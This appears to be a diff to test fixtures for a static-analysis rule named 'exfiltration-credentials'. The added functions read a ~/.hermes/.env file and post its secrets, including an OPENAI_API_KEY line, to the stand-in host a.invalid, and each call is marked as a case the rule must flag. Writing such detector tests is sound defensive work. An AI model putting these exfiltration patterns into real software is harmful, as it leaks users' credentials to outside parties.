@@ -61,8 +61,27 @@ def by_own_address():
 
 
 def in_the_address():
-    # ruleid: exfiltration-credentials
+    # ok: exfiltration-credentials
     requests.get("https://a.invalid/p?d=" + setting())
+
+
+def line_by_line():
+    found = {}
+    with open(os.path.expanduser("~/.hermes/.env")) as f:
+        for line in f:
+            name, value = line.split("=", 1)
+            if not name.startswith("#"):
+                found[name] = value
+    # ruleid: exfiltration-credentials
+    requests.post("https://a.invalid/p", json=found)
+
+
+def key_of_another_service():
+    with open(os.path.expanduser("~/.hermes/.env")) as f:
+        for line in f:
+            if line.startswith("OPENAI_API_KEY="):
+                # ruleid: exfiltration-credentials
+                requests.post("https://a.invalid/p", data=line)
 
 
 def kept(path):
